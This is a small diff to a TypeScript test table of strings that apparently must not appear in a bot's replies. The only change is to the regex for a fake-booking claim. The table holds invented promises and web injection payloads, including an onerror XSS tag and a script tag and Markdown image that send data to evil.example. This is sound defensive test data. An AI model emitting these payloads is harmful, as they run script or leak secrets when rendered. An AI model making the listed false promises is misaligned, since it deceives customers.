@@ -14,7 +14,7 @@ const lies: [string, string, RegExp][] = [
   ['a time that is too short', 'Your MVP will be ready in 5 days.', /5 days/],
   ['a discount', 'I can give you 25% off if you sign today.', /25%/],
   ['a guarantee', 'We guarantee your money back if you are not happy.', /money back/],
-  ['a booking that nobody made', 'I have booked you for Friday at 3 pm.', /Friday/],
+  ['a booking that nobody made', 'I have booked you for Friday at 3 pm.', /booked you/],
   ['HTML', 'See <img src=x onerror=alert(1)> for more.', /<img/],
   ['a script', 'Try <script>fetch("//evil.example")</script> now.', /script|evil/],
   ['a picture in Markdown', 'Look: ![x](https://evil.example/?q=secret).', /evil|!\[/],
